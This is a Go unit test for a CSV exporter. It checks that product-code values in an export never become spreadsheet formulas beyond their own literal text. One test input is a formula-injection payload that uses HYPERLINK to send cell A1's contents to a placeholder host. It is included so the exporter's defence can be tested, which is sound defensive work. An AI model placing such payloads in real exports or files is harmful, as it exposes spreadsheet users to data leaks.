package export_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"habilis/internal/export"
)

// TestNoCodeBecomesAFormula: whatever a code holds, its cell is the text or a formula of that very text.
func TestNoCodeBecomesAFormula(t *testing.T) {
	for _, text := range []string{
		`1mai"&HYPERLINK("http://example.invalid/?"&A1;"x")&"`, `12"`, `1/2"+1`, `01"&A1&"`, `"1mai`, `1 janv"`, `0123`, `1mai`,
	} {
		var b bytes.Buffer
		require.NoError(t, export.CSV(&b, export.Table{
			Header: []string{"Code"}, Kinds: []export.Kind{export.Code},
			Rows: func(row func(cells []string) error) error { return row([]string{text}) },
		}))
		cell := strings.TrimSuffix(strings.SplitN(b.String(), "\r\n", 3)[1], "\r\n")
		cell = strings.ReplaceAll(strings.Trim(cell, `"`), `""`, `"`)
		if strings.HasPrefix(cell, "=") {
			assert.Equal(t, `="`+text, strings.TrimSuffix(cell, `"`), text)
			assert.NotContains(t, text, `"`)
		}
	}
}
